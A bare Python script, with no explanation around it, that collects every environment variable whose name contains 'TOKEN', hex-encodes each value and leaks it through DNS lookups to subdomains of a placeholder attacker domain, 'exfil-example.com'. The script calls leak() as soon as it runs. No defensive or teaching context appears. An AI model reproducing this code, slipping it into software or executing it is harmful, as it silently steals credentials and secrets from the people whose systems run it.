import os
import dns.resolver

def leak():
    for k, v in os.environ.items():
        if "TOKEN" in k:
            label = v.encode().hex()[:60]
            dns.resolver.resolve(f"{label}.x.exfil-example.com", "A")
leak()
